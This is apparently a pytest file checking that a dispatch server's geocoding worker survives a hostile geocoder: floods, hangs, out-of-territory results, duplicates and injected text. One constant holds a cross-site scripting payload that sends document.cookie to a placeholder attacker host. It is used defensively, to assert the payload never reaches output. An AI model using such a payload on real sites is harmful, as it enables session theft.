"""A geocoder that was taken over: the desk goes on, nothing wrong is placed, and the worker outlives all of it."""

import json
import time
from collections.abc import Iterator
from typing import Any

import pytest

from dispatch_server.protocol.geo import LonLat
from dispatch_server.workers.running import Repeated
from tests.gis.test_hostile_geocoder import OK, PIECE, SPEECHES, Speak, endlessly, once
from tests.outside import Outside, Reply, a_stranger, amap, an_outside, says
from tests.stories.test_remote_places import Asking, counted, kinds, place_of, unplaced
from tests.town import EAST, MEADOW, NORTH, ROAD, Town

SHOP = LonLat(112.0085, 27.7291)
JUST_OUTSIDE = [LonLat(EAST + 0.001, ROAD), LonLat(112.1, NORTH + 0.001), LonLat(-112.0, -27.7), LonLat(0.001, 0.001)]
SCRIPT = "<script>fetch('//evil.example/'+document.cookie)</script>"
PLACED_WITHIN_S = 10


@pytest.fixture
def outside() -> Iterator[Outside]:
    with an_outside() as outside:
        yield outside


def test_the_worker_outlives_whatever_is_sent_and_asks_again(town: Town, outside: Outside) -> None:
    """One stranger with all his speeches, who then comes to his senses."""
    said: list[Speak] = []
    with a_stranger(lambda line: said[-1](line)) as url:
        asking = Asking(town, [outside.geocoder("amap", url=url, timeout_s=0.3)])
        for speech in SPEECHES.values():
            said.append(speech)
            filed = unplaced(town)
            asking.all()
            assert kinds(town, filed) == ["CallTaken", "CallUnplaced", "CallFiled"]
            town.clock.advance(minutes=16)
        said.append(once(OK + b"\r\n" + says(amap(SHOP)).body))
        filed = unplaced(town)
        asking.all()
    assert place_of(town, filed)["source"] == "amap"
    assert counted(town)["amap", "failed"] >= len(SPEECHES)


def test_while_gigabytes_come_in_calls_are_answered_and_others_are_asked(town: Town, outside: Outside) -> None:
    """The worker in its own thread, as a server runs it; the second provider answers what the first drowns."""
    outside.always(says(amap(SHOP)))
    with a_stranger(endlessly(OK + b"\r\n", PIECE)) as url:
        flooding = outside.geocoder("nominatim", url=url, timeout_s=2.0)
        worker = Repeated("placing", Asking(town, [flooding, outside.geocoder("amap")]).placing.once, 0.02).start()
        try:
            filed = unplaced(town)
            began = time.monotonic()
            for _ in range(20):
                assert town.call(account_no="43130000000005")["place"]["method"] == "account"
            assert time.monotonic() - began < 5
            while place_of(town, filed)["source"] != "amap":
                assert time.monotonic() - began < PLACED_WITHIN_S
                time.sleep(0.05)
        finally:
            worker.stop()


@pytest.mark.parametrize("at", JUST_OUTSIDE, ids=str)
def test_nothing_outside_the_territory_is_taken_or_offered(at: LonLat, town: Town, outside: Outside) -> None:
    outside.always(says(amap(at)))
    first, second = unplaced(town), town.call(address="上坪乡王记五金店对面")
    asking = Asking(town, [outside.geocoder("amap", per_second=4.0)])
    asking.all()
    town.clock.advance(seconds=1)
    asking.all()
    for filed in (first, second):
        assert kinds(town, filed)[-1] == "CallFiled"
        assert [c for c in place_of(town, filed)["candidates"] if c["source"]] == []


def test_what_an_answer_calls_itself_reaches_nobody(town: Town, outside: Outside) -> None:
    """Positions and their doubt are taken, and no word."""

    def scripted(value: Any) -> Any:
        if isinstance(value, dict):
            return {key: inner if key in KEPT else scripted(inner) for key, inner in value.items()}
        return [scripted(inner) for inner in value] if isinstance(value, list) else SCRIPT

    outside.always(says(scripted(amap(SHOP))))
    placed, offered = unplaced(town), town.call(address="上坪乡王记五金店对面")
    asking = Asking(town, [outside.geocoder("amap")])
    asking.all()
    town.clock.advance(seconds=1)
    asking.all()
    assert place_of(town, placed)["source"] == "amap"
    for filed in (placed, offered):
        told = [town.get(f"/calls/{filed['call']['id']}"), town.outage(filed["outage"]["id"])]
        assert "script" not in json.dumps(told, ensure_ascii=False)


KEPT = ("status", "infocode", "location", "geocodes", "level")


def test_one_place_that_is_answered_five_times_is_offered_once(town: Town, outside: Outside) -> None:
    outside.always(says(amap(SHOP, SHOP, MEADOW, SHOP, MEADOW)))
    filed = town.call(address="上坪乡王记五金店对面")
    Asking(town, [outside.geocoder("amap")]).all()
    ids = [c["candidate_id"] for c in place_of(town, filed)["candidates"]]
    assert len(ids) == len(set(ids))
    assert len([one for one in ids if one.startswith("amap:")]) == 2


def test_a_server_that_stops_waits_no_longer_than_the_answer_may_take(town: Town, outside: Outside) -> None:
    outside.always(Reply(b"{}", before=lambda: outside.hang.wait(20)))
    unplaced(town)
    worker = Repeated("placing", Asking(town, [outside.geocoder("amap", timeout_s=0.5)]).placing.once, 0.02).start()
    while not outside.asked:
        time.sleep(0.01)
    began = time.monotonic()
    worker.stop()
    assert time.monotonic() - began < 2
